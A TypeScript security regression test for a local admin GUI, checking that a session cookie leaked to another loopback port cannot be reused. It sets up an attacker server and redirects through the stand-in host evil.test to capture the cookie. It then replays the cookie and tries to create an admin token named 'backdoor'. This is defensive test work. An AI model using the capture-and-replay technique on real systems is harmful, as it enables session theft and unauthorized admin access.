/**
 * Attack: cookies are not isolated by port (RFC 6265 §8.5). The Scope GUI's session cookie is
 * set for host 127.0.0.1, so the browser sends it to every server on 127.0.0.1, whatever its
 * port. Any local user can listen on a high loopback port; once the admin's browser makes one
 * same-site request there (a link that lands on http://127.0.0.1:PORT/, which then loads an
 * image of its own), that server reads the admin's session cookie from the Cookie header and
 * replays it from a plain client with the page's Origin. Before the fix that was an admin
 * WebSocket; now a session is its cookie and the key the page keeps in its own origin
 * (sessionStorage, kept apart by port), so the cookie alone opens nothing.
 */
import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { chromium } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CHROMIUM } from '../helpers/browser.js';
import { type Scoped, WsClient, scoped } from '../helpers/scoped.js';

describe('attack: the session cookie reaches another port on 127.0.0.1', () => {
  let d: Scoped;
  let evil: Server;
  let evilPort = 0;
  const seen: string[] = [];

  beforeAll(async () => {
    d = await scoped();
    // The local attacker's server: a landing page that loads an image of its own, and logs every Cookie header.
    evil = createServer((req, res) => {
      if (req.headers.cookie) seen.push(req.headers.cookie);
      if (req.url === '/go') {
        // Served under the cross-site name: sends the browser on to the attacker's loopback port.
        res.writeHead(200, { 'content-type': 'text/html' }).end(`<script>location = 'http://127.0.0.1:${evilPort}/land'</script>`);
      } else if (req.url === '/land') res.writeHead(200, { 'content-type': 'text/html' }).end('<p>nothing here</p><img src="/pixel.png">');
      else res.writeHead(404).end();
    });
    await new Promise<void>((resolve) => evil.listen(0, '127.0.0.1', resolve));
    evilPort = (evil.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => evil?.close(resolve));
    await d?.close();
  });

  it('a page on another loopback port sees the admin session cookie, and the cookie alone drives nothing', async () => {
    const b = await chromium.launch({
      executablePath: CHROMIUM,
      headless: true,
      args: ['--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--host-resolver-rules=MAP evil.test 127.0.0.1'],
    });
    try {
      const page = await (await b.newContext()).newPage();
      // The admin logs in as documented.
      const url = (await d.cpcmd(['gui'])).stdout.trim();
      await page.goto(url);
      await page.getByText('unix-socket (admin)').waitFor({ timeout: 15_000 });
      // Later the admin follows a link on some other site (cross-site: no Strict cookie on this navigation).
      await page.goto(`http://evil.test:${evilPort}/go`);
      await page.waitForURL(`http://127.0.0.1:${evilPort}/land`);
      await page.waitForLoadState('networkidle');
    } finally {
      await b.close();
    }
    const stolen = seen.map((c) => /scoped_session=([\w-]+)/.exec(c)?.[1]).find((c) => c !== undefined);
    // Browsers do send it there (cookies know no ports): the test shows the attack ran as described.
    expect(stolen).toBeDefined();
    // Replayed from a plain client with the page's Origin: refused, as is reading the session.
    const replayed = await WsClient.open(d.port!, undefined, { headers: { cookie: `scoped_session=${stolen}`, origin: `http://127.0.0.1:${d.port}` } }).catch(
      (e: { status?: number }) => e,
    );
    expect(replayed).toMatchObject({ status: 401 });
    const who = await fetch(`http://127.0.0.1:${d.port}/session`, { headers: { cookie: `scoped_session=${stolen}` } });
    expect(who.status).toBe(401);
    // And over HTTP, the attack's other way in: the token it would make is not made.
    const made = await fetch(`http://127.0.0.1:${d.port}/rpc`, {
      method: 'POST',
      headers: { cookie: `scoped_session=${stolen}`, origin: `http://127.0.0.1:${d.port}`, 'content-type': 'application/json' },
      body: JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'token.create', params: { role: 'admin', name: 'backdoor' } }),
    });
    expect(made.status).toBe(401);
    expect((await d.ok<{ tokens: { name: string }[] }>('token.list')).tokens.map((t) => t.name)).not.toContain('backdoor');
  });
});
